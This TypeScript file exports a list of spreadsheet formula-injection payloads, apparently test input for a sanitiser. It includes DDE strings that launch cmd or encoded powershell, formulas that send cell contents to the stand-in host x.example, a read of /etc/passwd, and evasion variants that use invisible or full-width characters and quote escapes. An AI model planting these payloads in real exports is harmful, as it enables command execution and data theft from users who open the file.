/** A hundred known payloads that make a spreadsheet run a cell, each a name of at most 64 characters. */
export const payloads: readonly string[] = [
  // Plain formulas, with each of the four leading characters.
  ['=1+1', '=A1', '=SUM(1,1)', '=2+5+cmd', '=IF(1=1,"a","b")', '=ROW()', '==1', '=', "='a'!A1", '=-1'],
  ['+1+1', '+A1', '+SUM(1,1)', '+', '++1', '+1-800-555-0100', '+cmd', '+HYPERLINK("http://x.example")'],
  ['-2+3', '-A1', '-SUM(1,1)', '-', '--1', '-1', '-cmd', "-2+3+cmd|' /C calc'!A0"],
  ['@SUM(1,1)', '@A1', '@', '@@x', '@cmd', "@SUM(1+9)*cmd|' /C calc'!A0"],
  // Programs started through DDE.
  [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell -e AAAA'!A1",
    "+cmd|' /C notepad'!'A1'",
    "-cmd|' /C calc'!G10",
    "@cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"x")',
    '=DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    "=10+20+cmd|' /C calc'!A0",
  ],
  // Data exfiltrated from the sheet.
  [
    '=HYPERLINK("http://x.example?l="&A1,"Error")',
    '=hyperlink("http://x.example/a")',
    '=WEBSERVICE("http://x.example/"&A2)',
    '=IMPORTXML("http://x.example","//a")',
    '=IMPORTDATA("http://x.example?"&A1)',
    '=IMPORTRANGE("1aBc","Sheet1!A1:Z9")',
    '=IMAGE("http://x.example/"&A1)',
    '=IMPORTFEED("http://x.example")',
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A"&ROW())',
    '=EXEC("calc")',
  ],
  // A tab, a carriage return or a line feed, in front or alone.
  ['\t=1+1', '\t', '\t\t=A1', '\tcmd', '\r=1+1', '\r', '\r\n=1+1', '\rcmd', '\n=1+1', '\n', '\n\n@A1', '\r\n'],
  // Blanks and invisible characters in front.
  [' =1+1', '   +1', '\u00a0=1+1', '\u2003-1', '\u3000@A1', '\u200b=1+1', '\ufeff=1+1', '\u2060+1', '\u00ad=1'],
  ['\u200e=1+1', '\u202e=1+1', ' \t =1+1', '\u000b=1', '\f=2', '\u1680=1', '\u205f-1'],
  // The same characters in full width.
  ['＝1+1', '＋1', '－1', '＠SUM(1)', ' ＝A1', "＝cmd|' /C calc'!A0"],
  // Escapes from the cell, followed by a formula.
  [
    '",=1+1,"',
    '"\r\n=1+1',
    'x"\n"=1+1","',
    '=1+1";=1+1',
    'a,=1+1',
    '"',
    '""=1+1',
    "'=1+1",
    '=1+1\r\n=2+2',
    '=\'"\'"',
    '=1+1\\',
    '\\"=1+1',
    '"=1+1"',
  ],
].flat();
